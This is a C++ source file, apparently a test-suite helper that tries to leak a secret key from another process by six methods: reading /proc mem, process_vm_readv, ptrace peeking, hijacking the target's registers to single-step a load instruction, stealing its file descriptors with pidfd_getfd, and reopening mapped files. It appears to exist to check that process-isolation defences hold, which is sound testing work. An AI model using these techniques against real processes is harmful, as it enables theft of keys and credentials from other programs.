// One attack on another process. usage: attacker METHOD PID ADDRESS KEY_HEX; prints "LEAK" when it has the key, else
// "no: REASON". Run as the user it is to be: the suite does that.
#include <dirent.h>
#include <fcntl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <array>
#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <string>
#include <vector>

#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

namespace {

constexpr std::size_t key_bytes = 32;
using Key = std::array<std::uint8_t, key_bytes>;

struct Target {
    pid_t pid = 0;
    std::uint64_t address = 0;
    Key key{};
};

struct Outcome {
    bool leaked = false;
    std::string reason;
};

Outcome refused(const char* what)
{
    return {false, std::string(what) + ": " + std::strerror(errno)};
}

Outcome judged(const Target& target, const void* bytes, std::size_t size)
{
    if (size > 0 && std::memcmp(bytes, target.key.data(), std::min(size, key_bytes)) == 0) {
        return {true, ""};
    }
    return {false, "read something else"};
}

std::string proc_path(const Target& target, const char* name)
{
    return "/proc/" + std::to_string(target.pid) + "/" + name;
}

Outcome proc_mem(const Target& target)
{
    const int file = ::open(proc_path(target, "mem").c_str(), O_RDONLY | O_CLOEXEC);
    if (file < 0) {
        return refused("open");
    }
    Key bytes{};
    const auto size = ::pread(file, bytes.data(), bytes.size(), static_cast<off_t>(target.address));
    ::close(file);
    return size < 0 ? refused("read") : judged(target, bytes.data(), static_cast<std::size_t>(size));
}

Outcome vm_readv(const Target& target)
{
    Key bytes{};
    const iovec here{bytes.data(), bytes.size()};
    const iovec there{reinterpret_cast<void*>(target.address), bytes.size()};
    const auto size = ::process_vm_readv(target.pid, &here, 1, &there, 1, 0);
    return size < 0 ? refused("process_vm_readv") : judged(target, bytes.data(), static_cast<std::size_t>(size));
}

// Seizes and stops the target for its lifetime.
class Tracer {
  public:
    explicit Tracer(pid_t pid)
        : pid_(pid)
    {
        attached_ = ::ptrace(PTRACE_SEIZE, pid, nullptr, nullptr) == 0;
        int status = 0;
        stopped_ = attached_ && ::ptrace(PTRACE_INTERRUPT, pid, nullptr, nullptr) == 0 &&
                   ::waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status);
    }
    ~Tracer()
    {
        if (attached_) {
            ::ptrace(PTRACE_DETACH, pid_, nullptr, nullptr);
        }
    }
    Tracer(const Tracer&) = delete;
    Tracer& operator=(const Tracer&) = delete;
    [[nodiscard]] bool stopped() const { return stopped_; }

  private:
    pid_t pid_;
    bool attached_ = false;
    bool stopped_ = false;
};

Outcome peek(const Target& target)
{
    const Tracer tracer(target.pid);
    if (!tracer.stopped()) {
        return refused("attach");
    }
    errno = 0;
    const long word = ::ptrace(PTRACE_PEEKDATA, target.pid, target.address, nullptr);
    return errno != 0 ? refused("peek") : judged(target, &word, sizeof word);
}

// An instruction of the target's own code that loads what RSI points to into RAX: mov (%rsi),%rax.
std::uint64_t find_load(const Target& target)
{
    constexpr std::array<char, 3> load{0x48, static_cast<char>(0x8b), 0x06};
    std::ifstream maps(proc_path(target, "maps"));
    const int memory = ::open(proc_path(target, "mem").c_str(), O_RDONLY | O_CLOEXEC);
    for (std::string line; memory >= 0 && std::getline(maps, line);) {
        std::uint64_t start = 0;
        std::uint64_t end = 0;
        std::array<char, 5> rights{};
        if (std::sscanf(line.c_str(), "%lx-%lx %4s", &start, &end, rights.data()) != 3 || rights[2] != 'x') {
            continue;
        }
        std::vector<char> code(end - start);
        const auto size = ::pread(memory, code.data(), code.size(), static_cast<off_t>(start));
        code.resize(size > 0 ? static_cast<std::size_t>(size) : 0);
        const auto found = std::search(code.begin(), code.end(), load.begin(), load.end());
        if (found != code.end()) {
            ::close(memory);
            return start + static_cast<std::uint64_t>(found - code.begin());
        }
    }
    ::close(memory);
    return 0;
}

// The target itself loads the key into a register: what the kernel refuses to copy, the process may still read.
Outcome hijack(const Target& target)
{
    const Tracer tracer(target.pid);
    if (!tracer.stopped()) {
        return refused("attach");
    }
    const auto load = find_load(target);
    user_regs_struct before{};
    if (load == 0 || ::ptrace(PTRACE_GETREGS, target.pid, nullptr, &before) != 0) {
        return refused("no instruction to abuse");
    }
    auto registers = before;
    registers.rip = load;
    registers.rsi = target.address;
    registers.orig_rax = ~0ULL; // not a system call to be restarted
    int status = 0;
    if (::ptrace(PTRACE_SETREGS, target.pid, nullptr, &registers) != 0 ||
        ::ptrace(PTRACE_SINGLESTEP, target.pid, nullptr, nullptr) != 0 ||
        ::waitpid(target.pid, &status, __WALL) != target.pid || !WIFSTOPPED(status) ||
        ::ptrace(PTRACE_GETREGS, target.pid, nullptr, &registers) != 0) {
        return refused("step");
    }
    ::ptrace(PTRACE_SETREGS, target.pid, nullptr, &before);
    return judged(target, &registers.rax, sizeof registers.rax);
}

Outcome fd_theft(const Target& target)
{
    const int handle = static_cast<int>(::syscall(SYS_pidfd_open, target.pid, 0));
    if (handle < 0) {
        return refused("pidfd_open");
    }
    int stolen_count = 0;
    int error = EBADF;
    for (int number = 0; number < 64; ++number) {
        const int stolen = static_cast<int>(::syscall(SYS_pidfd_getfd, handle, number, 0));
        if (stolen < 0) {
            error = errno == EBADF ? error : errno;
            continue;
        }
        ++stolen_count;
        Key bytes{};
        const auto size = ::pread(stolen, bytes.data(), bytes.size(), 0);
        ::close(stolen);
        if (size == static_cast<ssize_t>(bytes.size()) && bytes == target.key) {
            return {true, ""};
        }
    }
    errno = error;
    return stolen_count > 0 ? Outcome{false, std::to_string(stolen_count) + " descriptors, none with the key"}
                            : refused("pidfd_getfd");
}

// The files behind the mappings, opened anew.
Outcome map_files(const Target& target)
{
    const auto folder = proc_path(target, "map_files");
    DIR* listing = ::opendir(folder.c_str());
    if (listing == nullptr) {
        return refused("map_files");
    }
    Outcome outcome{false, "no mapping has the key"};
    while (const auto* entry = ::readdir(listing)) {
        std::uint64_t start = 0;
        std::uint64_t end = 0;
        if (std::sscanf(entry->d_name, "%lx-%lx", &start, &end) != 2 || target.address < start ||
            target.address >= end) {
            continue;
        }
        const int file = ::open((folder + "/" + entry->d_name).c_str(), O_RDONLY | O_CLOEXEC);
        if (file < 0) {
            outcome = refused("open the mapping");
            continue;
        }
        Key bytes{};
        const auto size = ::pread(file, bytes.data(), bytes.size(), static_cast<off_t>(target.address - start));
        ::close(file);
        outcome = size < 0 ? refused("read the mapping") : judged(target, bytes.data(), static_cast<std::size_t>(size));
    }
    ::closedir(listing);
    return outcome;
}

struct Method {
    const char* name;
    Outcome (*attack)(const Target&);
};

constexpr std::array methods{Method{"proc-mem", proc_mem}, Method{"vm-readv", vm_readv},
                             Method{"peek", peek},         Method{"hijack", hijack},
                             Method{"fd-theft", fd_theft}, Method{"map-files", map_files}};

} // namespace

int main(int count, char** arguments)
{
    if (count != 5 || std::strlen(arguments[4]) != 2 * key_bytes) {
        return 64;
    }
    Target target{std::atoi(arguments[2]), std::strtoull(arguments[3], nullptr, 16), {}};
    for (std::size_t index = 0; index < key_bytes; ++index) {
        const char digits[3] = {arguments[4][2 * index], arguments[4][2 * index + 1], 0};
        target.key[index] = static_cast<std::uint8_t>(std::strtoul(digits, nullptr, 16));
    }
    for (const auto& method : methods) {
        if (std::strcmp(method.name, arguments[1]) == 0) {
            const auto outcome = method.attack(target);
            std::printf("%s\n", outcome.leaked ? "LEAK" : ("no: " + outcome.reason).c_str());
            return 0;
        }
    }
    return 64;
}
